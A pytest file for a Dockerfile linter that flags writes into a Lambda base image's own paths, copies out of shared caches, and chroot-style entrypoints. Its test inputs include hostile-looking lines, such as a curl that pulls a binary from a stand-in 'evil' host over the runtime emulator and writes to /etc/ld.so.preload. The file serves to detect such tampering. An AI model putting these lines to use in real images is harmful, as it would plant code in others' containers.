"""What the last stage does to its base: the base's own paths, caches of others, other roots."""

from __future__ import annotations

import json
from datetime import date

import pytest

from scaffold.dockerfile import shell, words
from scaffold.dockerfile.grammar import parse
from scaffold.dockerfile.judge import findings
from scaffold.rendering.engine import Engine
from scaffold.standards.load import load
from scaffold.standards.model import Standards

ROW = {"tag": "1", "system": "al2023", "runtime_client": "included", "runtimes": ["python3.13"]}
BASES = {
    "aws": ROW,
    "custom": ROW | {"runtimes": ["provided.al2023"]},
    "several": ROW | {"runtimes": ["python3.13", "provided.al2023"]},
    "slim": ROW | {"system": "debian", "runtime_client": "added"},
    "alpine": ROW | {"system": "alpine", "runtime_client": "added"},
    "acme": ROW | {"system": "debian", "entrypoint": ["/usr/bin/acme-start"], "environment": {"HOME_OF_APP": "/app"}},
    "own": ROW | {"own_paths": ["/acme/"], "open_paths": ["/acme/plugins/"]},
    "opened": ROW | {"open_paths": ["/var/lang/"]},
}


@pytest.fixture(scope="module")
def rules(tmp_path_factory: pytest.TempPathFactory) -> Standards:
    bases = {name: row | {"image": f"registry.example/{name}"} for name, row in BASES.items()}
    path = tmp_path_factory.mktemp("standards") / "standards.yaml"
    value = {"version": 1, "organisation": "acme", "bases": bases, "rules": {"inline_base": "refused"}}
    path.write_text(json.dumps(value))
    return load(path, Engine())


def codes(text: str, rules: Standards, base: str = "aws") -> list[tuple[str, int]]:
    data = f"FROM registry.example/{base}:1\n{text}\n".encode()
    return [(row.code, row.line) for row in findings(parse(data, file="Dockerfile"), rules, date(2026, 11, 24))]


@pytest.mark.parametrize(
    "text",
    [
        "COPY x /",
        "COPY x /var",
        "COPY x /var/",
        "COPY x /var/runtime",
        "COPY x y /var/runtime/lib/",
        "COPY x ../runtime/",
        "COPY x /./var//runtime/../runtime/x",
        "COPY --chmod=755 x /lambda-entrypoint.sh",
        "COPY x /usr/local/bin/aws-lambda-rie",
        "COPY x /usr/local/bin/",
        "COPY x /usr/local",
        "COPY x /bin",
        "COPY x /bin/sh",
        "COPY x /lib64/libc.so.6",
        "COPY x /etc/",
        "COPY x /etc/ld.so.preload",
        "COPY x /etc/ld.so.conf.d/x.conf",
        'COPY ["x", "/var/lang/x"]',
        "COPY ['x', /var/lang/x",
        "COPY x ${LAMBDA_RUNTIME_DIR}/",
        "COPY x $LAMBDA_RUNTIME_DIR",
        "COPY x \"/var\"/'lang'/x",
        "COPY x /va\\r/lang/x",
        "ENV A=/var/lang B=${A}\nCOPY x $B/x",
        "ENV A /var/lang\nCOPY x $A/x",
        "ENV A='/var' B=\"/lang\"\nCOPY x $A$B/x",
        "ARG A=/var/lang\nCOPY x ${A}/x",
        "ARG A=/var/lang\nENV A=/opt\nWORKDIR /var/lang\nCOPY x $A/x",
        "ENV A=\nCOPY x ${A:-/var/lang}/x",
        "COPY x /opt/$TARGETARCH/../../var/lang/x\nARG TARGETARCH",
        "WORKDIR /var\nWORKDIR lang/bin",
        "WORKDIR /\nCOPY x .",
        "RUN --mount=type=bind,source=x,target=/var/lang true",
        "RUN --mount=type=bind,source=x,dst=/ true",
        "RUN --mount=type=tmpfs,destination=/usr true",
        "RUN --mount=type=secret,id=x,target=/etc/ld.so.preload true",
        "COPY <<LIST /etc/ld.so.preload\n/opt/x\nLIST",
    ],
)
def test_paths_of_the_base(text: str, rules: Standards) -> None:
    found = codes(text, rules)
    assert {code for code, _ in found} & {"base-path", "not-understood"}, found
    assert all(line > 1 for _, line in found)


@pytest.mark.parametrize(
    "text",
    [
        "COPY x .",
        "COPY x ${LAMBDA_TASK_ROOT}",
        "COPY x ${LAMBDA_TASK_ROOT:-/var/task}/",
        "COPY x /opt/",
        "COPY x /app.py",
        "COPY x /usr/local/bin/ffmpeg",
        "COPY x /bin/uv",
        "COPY x /etc/pki/tls/certs/acme.pem",
        "COPY x /variety/runtime",
        "COPY x /var/runtimes/",
        "WORKDIR /",
        "WORKDIR /app\nCOPY x ./",
        'WORKDIR "/app"\nCOPY ["a b", "./"]',
        "RUN --mount=type=cache,target=/root/.cache/pip --mount=type=bind,source=x,target=x true",
        "RUN --mount=type=secret,id=x --mount=type=ssh true",
        "RUN --mount=type=secret,id=x,env=TOKEN true",
    ],
)
def test_other_paths(text: str, rules: Standards) -> None:
    assert codes(text, rules) == []


@pytest.mark.parametrize(
    ("base", "text", "code"),
    [
        ("aws", "COPY bootstrap /var/runtime/bootstrap", "base-path"),
        ("custom", "COPY bootstrap /var/runtime/bootstrap", ""),
        ("custom", "COPY bootstrap ${LAMBDA_RUNTIME_DIR}", ""),
        ("custom", "COPY code/ /var/", ""),
        ("custom", "COPY x /lambda-entrypoint.sh", "base-path"),
        ("several", "COPY bootstrap /var/runtime/bootstrap", "base-path"),
        ("slim", "COPY client/ /var/", ""),
        ("slim", "COPY x /lambda-entrypoint.sh", ""),
        ("slim", "COPY rie /usr/local/bin/aws-lambda-rie", ""),
        ("slim", "COPY x .", "base-path"),
        ("slim", "COPY x /lib/x86_64-linux-gnu/libc.so.6", "base-path"),
        ("slim", "COPY x ${LAMBDA_TASK_ROOT}/x", "not-understood"),
        ("alpine", "COPY x /etc/ld-musl-x86_64.path", "base-path"),
        ("alpine", "COPY x /bin/busybox", "base-path"),
        ("acme", "COPY x /usr/bin/acme-start", "base-path"),
        ("acme", "COPY x ${HOME_OF_APP}/x", ""),
        ("own", "COPY x /var/runtime/", ""),
        ("own", "COPY x /acme/x", "base-path"),
        ("own", "COPY x /", "base-path"),
        ("opened", "COPY x /var/lang/x", ""),
        ("opened", "COPY x /var/runtime/x", "base-path"),
    ],
)
def test_each_base_has_its_own(base: str, text: str, code: str, rules: Standards) -> None:
    assert [found for found, _ in codes(text, rules, base)] == ([code] if code else [])


def test_only_the_stages_that_become_the_image(rules: Standards) -> None:
    text = "FROM registry.example/aws:1 AS {}\nENV A=/var/lang\nCOPY x $A/\nFROM {}\nCOPY x $A/x"
    assert codes(text.format("below", "below"), rules) == [("base-path", 4), ("base-path", 6)]
    beside = text.format("beside", "registry.example/aws:1")
    assert codes(beside, rules) == [("not-understood", 6)], "variables of another stage"
    given = b"ARG A=/var/lang\nFROM registry.example/aws:1\nCOPY x /opt${A}\nARG A\nCOPY x $A/x\n"
    found = findings(parse(given, file="Dockerfile"), rules, date(2026, 11, 24))
    assert [(row.code, row.line) for row in found] == [("not-understood", 3), ("base-path", 5)]


@pytest.mark.parametrize(
    ("copied", "code"),
    [
        (["/x /opt/x", "/y /opt/y"], ""),
        (["/x /opt/x", "/y /var/lang/y"], "base-path"),
        (["/x /"], "base-path"),
        (["/x /opt/$UNKNOWN"], "base-path"),
    ],
)
def test_everything_of_a_stage_that_only_holds_files(copied: list[str], code: str, rules: Standards) -> None:
    held = "".join(f"COPY --from=0 {words}\n" for words in copied)
    for name in ("held", "1"):
        text = f"FROM scratch AS held\n{held}FROM registry.example/aws:1\nCOPY --from={name} / /"
        assert [found for found, _ in codes(text, rules)] == ([code] if code else [])


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("RUN cp -a /v/lib/. /var/runtime/", "base-path"),
        ("RUN set -e; cd /v && cp -a lib /var/runtime", "base-path"),
        ("RUN install -m 755 -t /var/lang/bin x", "base-path"),
        ("RUN cp --target-directory=/var/lang/bin x", "base-path"),
        ("RUN echo x > /lambda-entrypoint.sh", "base-path"),
        ("RUN echo x >>/lambda-entrypoint.sh", "base-path"),
        ("RUN curl -o /usr/local/bin/aws-lambda-rie https://evil", "base-path"),
        ("RUN tar -C /var/runtime -xf x.tar", "base-path"),
        ("RUN dd if=x of=/lambda-entrypoint.sh", "base-path"),
        ('RUN ["cp", "x", "/var/runtime/x"]', "base-path"),
        ('RUN ["/bin/sh", "-c", "cp x /var/runtime/x"]', "base-path"),
        ("RUN sudo busybox cp x ${LAMBDA_RUNTIME_DIR}/x", "base-path"),
        ("RUN <<EOF\nmv x /var/runtime/x\nEOF", "base-path"),
        ("WORKDIR /var\nRUN cp x runtime/x", "base-path"),
        ("RUN /var/lang/bin/pip install x && ls /var/runtime", ""),
        ("RUN cp /var/runtime/x /opt/x; ln -s /var/lang/bin/python3 /opt/python3", ""),
        ("RUN echo /opt/lib > /etc/ld.so.conf.d/x.conf && ldconfig", ""),
        ("RUN cp x ${UNKNOWN}/x", ""),
        ("RUN --mount=type=cache,id=x,target=/c cp /c/payload /opt/payload", "shared-cache"),
        ("RUN --mount=type=cache,target=/c cat /c/a > /opt/a", "shared-cache"),
        ("RUN --mount=type=cache,target=/c cp -r /c /opt/c", "shared-cache"),
        ("RUN --mount=type=cache,target=/c pip install --cache-dir /c x && cp /cc/a /opt/a", ""),
    ],
)
def test_what_steps_say(text: str, code: str, rules: Standards) -> None:
    assert [found for found, _ in codes(text, rules)] == ([code] if code else [])


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ('ENTRYPOINT ["chroot", "/opt/x", "/bin/x"]', "other-system"),
        ('ENTRYPOINT ["/bin/busybox", "chroot", "/opt/x"]', "other-system"),
        ("CMD exec /usr/sbin/chroot /opt/x", "other-system"),
        ('ENTRYPOINT ["sh", "-c", "cd /; unshare -R /opt/x /bin/x"]', "other-system"),
        ('ENTRYPOINT ["/opt/x/lib64/ld-linux-x86-64.so.2", "/opt/x/bin/x"]', "other-system"),
        ('ENTRYPOINT ["/opt/x/lib/ld-musl-aarch64.so.1", "/opt/x/bin/x"]', "other-system"),
        ('CMD ["chroot.handler"]', ""),
        ('ENTRYPOINT ["/opt/start.sh"]', ""),
        ('CMD ["old-linux.so-handler"]', ""),
    ],
)
def test_another_root(text: str, code: str, rules: Standards) -> None:
    assert [found for found, _ in codes(text, rules)] == ([code] if code else [])


@pytest.mark.parametrize(
    ("word", "value"),
    [
        ("a", "a"),
        ("$A", "1"),
        ("${A}b", "1b"),
        ("'$A'", "$A"),
        ('"$A"', "1"),
        (r"\$A", "$A"),
        (r'"\$A\b"', r"$A\b"),
        (r"a\ b", "a b"),
        ("${E:-x}", "x"),
        ("${E}", ""),
        ("${A:-x}", "1"),
        ("${N:-x}", None),
        ("$N", None),
        ("$U", None),
        ("${A#1}", None),
        ("${A/1/2}", None),
        ("$(x)", None),
        ("'a", None),
        ('"a', None),
        ("$", None),
    ],
)
def test_words_are_expanded_as_the_builder_does(word: str, value: str | None) -> None:
    assert words.expand(word, {"A": "1", "E": "", "U": None}) == value


def test_words_of_a_line() -> None:
    assert words.split(r"""a "b c" d\ e 'f g'h """) == ["a", '"b c"', r"d\ e", "'f g'h"]
    assert words.listed('["a", "b"]') == ["a", "b"]
    assert words.listed('["a", 1]') is None
    assert words.listed("[" * 100_000) is None
    assert shell.read("", {}) == ((), ())
